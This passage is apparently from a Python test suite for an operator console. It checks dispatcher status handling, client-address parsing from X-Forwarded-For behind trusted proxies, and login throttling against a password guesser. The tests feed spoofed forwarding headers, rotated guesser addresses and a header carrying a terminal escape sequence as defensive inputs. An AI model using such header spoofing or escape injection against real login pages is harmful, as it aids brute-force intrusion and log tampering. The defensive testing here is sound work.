                "datacontenttype": "application/json",
                "data": data | {"epoch": epoch},
            }
        ).encode()

    loop = asyncio.new_event_loop()
    try:
        topic = f"{P}/dispatcher/status"
        loop.run_until_complete(console.handle_message(topic, status("online", 2, 1)))
        assert console.dispatcher == "online" and console.serving["instance"] == "host-2:1:ab"
        loop.run_until_complete(console.handle_message(topic, status("offline", 1, 2)))
        assert console.dispatcher == "online" and console.serving["instance"] == "host-2:1:ab"
        loop.run_until_complete(console.handle_message(topic, status("offline", 2, 3)))
        assert console.dispatcher == "offline"
    finally:
        loop.close()


def test_the_client_address_behind_a_proxy_is_the_hop_the_proxy_added() -> None:
    from ipaddress import ip_network

    from adapters.console import client_address

    proxies = [ip_network("10.0.0.0/24"), ip_network("::1")]
    # no proxy configured, or a connection not from one: the header is the client's word
    assert client_address("203.0.113.5", ["198.51.100.1"], []) == "203.0.113.5"
    assert client_address("203.0.113.5", ["198.51.100.1"], proxies) == "203.0.113.5"
    # through a proxy: the hop it added, not what the client wrote in front of it
    assert client_address("10.0.0.2", ["198.51.100.1, 203.0.113.5"], proxies) == "203.0.113.5"
    # two proxies in a row, one header each
    assert client_address("10.0.0.2", ["203.0.113.5", "10.0.0.3"], proxies) == "203.0.113.5"
    assert client_address("::1", [" 2001:db8::7 "], proxies) == "2001:db8::7"
    # a proxy that names nobody leaves its own address; one naming only proxies, the first
    assert client_address("10.0.0.2", [], proxies) == "10.0.0.2"
    assert client_address("10.0.0.2", ["10.0.0.9"], proxies) == "10.0.0.9"
    # what is not an address is kept as text, printable and short
    assert client_address("10.0.0.2", ["unknown\x1b[2J" + "x" * 200], proxies).isprintable()


async def test_behind_a_proxy_one_guesser_locks_only_his_own_address(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """Every login reaches the console from its reverse proxy. A guesser's failures from his
    address hold up his address, never an operator logging in from another; without the
    proxy configured, the header is not believed, and rotating it gains a guesser nothing."""
    import dataclasses

    behind = dataclasses.replace(
        settings,
        console=settings.console.model_copy(update={"trusted_proxies": ["127.0.0.1"]}),
    )

    async def attempt(
        http: ClientSession, base: str, forwarded: str, operator: str, password: str
    ) -> int:
        async with http.post(
            f"{base}/login",
            data={"operator": operator, "password": password},
            headers={"X-Forwarded-For": forwarded},
            allow_redirects=False,
        ) as response:
            return response.status

    async with (
        serving(behind, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        for k in range(console.address_throttle.free):
            assert await attempt(http, base, "203.0.113.5", f"guess-{k}", "x") == 302
        assert await attempt(http, base, "203.0.113.5", "op-01", PASSWORD) == 429
        assert await attempt(http, base, "198.51.100.1, 203.0.113.5", "op-01", PASSWORD) == 429
        assert await attempt(http, base, "203.0.113.9", "op-01", PASSWORD) == 302
    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        for k in range(console.address_throttle.free):
            assert await attempt(http, base, f"203.0.113.{k}", f"guess-{k}", "x") == 302
        assert await attempt(http, base, "203.0.113.99", "op-01", PASSWORD) == 429
